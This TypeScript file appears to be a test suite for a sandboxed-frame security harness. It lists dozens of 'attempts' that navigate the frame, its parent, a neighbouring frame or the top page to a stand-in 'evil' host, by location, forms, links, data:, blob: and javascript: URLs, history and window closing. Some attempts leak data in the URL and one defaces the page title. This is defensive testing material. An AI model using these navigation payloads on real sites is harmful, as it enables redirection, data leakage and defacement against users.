import { add, addHtml, allWindows, alone, attempt, blobUrl, call, goUnheard, type Attempt } from './attempt'

const link = (attributes: Record<string, string>) => {
  goUnheard()
  add('a', attributes).click()
}
const form = (attributes: Record<string, string>) => (add('form', attributes) as HTMLFormElement).submit()
const neighbour = () => window.top![0]!
const navigationApi = (): unknown => Reflect.get(window, 'navigation')

/** Takes a frame or the page elsewhere: to steal what is in the address, or to stand where something else stood. */
export const navigation: Attempt[] = [
  attempt('itself by location', ({ evil }) => void (location.href = `${evil}/?stolen`)),
  attempt('itself by assign', ({ evil }) => location.assign(evil)),
  attempt('itself by replace', ({ evil }) => location.replace(evil)),
  attempt('itself by the navigation API', ({ evil }) => void call(navigationApi(), 'navigate', evil)),
  attempt('itself by open', ({ evil }) => void open(evil, '_self')),
  attempt('itself by a refresh', ({ evil }) =>
    add('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }, document.head),
  ),
  attempt('itself by a link', ({ evil }) => link({ href: evil })),
  attempt('itself by an area', ({ evil }) => add('area', { href: evil }).click()),
  attempt('itself by a link in an svg', ({ evil }) => {
    goUnheard()
    addHtml(`<svg><a href="${evil}"><text>a</text></a></svg>`)
    document
      .querySelector('svg a')!
      .dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  }),
  attempt('itself by a link in mathematics', ({ evil }) => {
    goUnheard()
    addHtml(`<math href="${evil}"><mi href="${evil}">a</mi></math>`)
    document.querySelector('mi')!.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  }),
  attempt('itself by a form', ({ evil }) => form({ action: evil })),
  attempt('itself by a posted form', ({ evil }) => form({ action: evil, method: 'post' })),
  attempt('itself by a form’s button', ({ evil }) => {
    goUnheard()
    addHtml(`<form action="${evil}"><button>a</button></form>`)
    document.querySelector('button')!.click()
  }),
  attempt('itself to a document of data', ({ evil }) => {
    location.href = `data:text/html,<img src="${evil}">`
    link({ href: `data:text/html,<img src="${evil}">`, target: '_self' })
    add('iframe', { src: `data:text/html,<img src="${evil}">` })
  }),
  attempt('itself to a document of a blob', ({ evil }) =>
    location.assign(blobUrl(`<img src="${evil}">`, 'text/html')),
  ),
  attempt('itself to a script', ({ evil }) => location.assign(`javascript:'<img src="${evil}">'`)),
  attempt('the outer frame by location', ({ evil }) => void (parent.location.href = evil)),
  attempt('the outer frame by replace', ({ evil }) => parent.location.replace(evil)),
  attempt('the outer frame by open', ({ evil }) => void open(evil, '_parent')),
  attempt('the outer frame by a link', ({ evil }) => link({ href: evil, target: '_parent' })),
  attempt('the outer frame by a form', ({ evil }) => form({ action: evil, target: '_parent' })),
  attempt('the outer frame by a base', ({ evil }) => {
    add('base', { target: '_parent' }, document.head)
    link({ href: evil })
  }),
  attempt('the neighbour by location', ({ evil }) => void (neighbour().location.href = evil)),
  attempt('the neighbour by replace', ({ evil }) => neighbour().location.replace(evil)),
  attempt(
    'the neighbour’s widget by location',
    ({ evil }) => void (allWindows(neighbour())[1]!.location.href = evil),
  ),
  attempt('the neighbour by its name', ({ evil }) => void open(evil, 'canary-neighbour')),
  attempt('the neighbour by a link with its name', ({ evil }) =>
    link({ href: evil, target: 'canary-neighbour' }),
  ),
  attempt('the neighbour by a form with its name', ({ evil }) =>
    form({ action: evil, target: 'canary-neighbour' }),
  ),
  attempt('a nested frame by its name', ({ evil }) => {
    add('iframe', { name: 'nested' })
    link({ href: evil, target: 'nested' })
  }),
  attempt('a nested frame by its location', ({ evil }) =>
    (add('iframe') as HTMLIFrameElement).contentWindow!.location.replace(evil),
  ),
  attempt('a new window', ({ evil }) => void open(evil)),
  attempt('a new window without opener', ({ evil }) => void open(evil, '_blank', 'noopener')),
  attempt('a new window by a link', ({ evil }) => link({ href: evil, target: '_blank' })),
  attempt('a new window by a form', ({ evil }) => form({ action: evil, target: '_blank' })),
  attempt('a download', ({ evil }) => link({ href: evil, download: 'a.txt' })),
  alone('the page by location', ({ evil }) => void (window.top!.location.href = evil)),
  alone('the page by replace', ({ evil }) => window.top!.location.replace(evil)),
  alone('the page by open', ({ evil }) => void open(evil, '_top')),
  alone('the page by a link', ({ evil }) => link({ href: evil, target: '_top' })),
  alone('the page by a form', ({ evil }) => form({ action: evil, target: '_top' })),
  alone('the page by a base', ({ evil }) => {
    add('base', { target: '_top' }, document.head)
    link({ href: evil })
  }),
  alone('the page to a script', () => {
    window.top!.location.href = 'javascript:void(document.title = "defaced")'
    window.top!.document.title = 'defaced'
  }),
  alone('the page to another page of its own', ({ host }) => {
    window.top!.location.href = `${host}/private`
  }),
  alone('the page by its own history', () => History.prototype.back.call(history)),
  alone('the page by going back', () => History.prototype.go.call(history, -1)),
  alone('the page by the history of a nested frame', () =>
    (add('iframe') as HTMLIFrameElement).contentWindow!.history.back(),
  ),
  alone('the page by closing it', () => {
    window.top!.close()
    window.top!.document.title = 'closed'
  }),
]
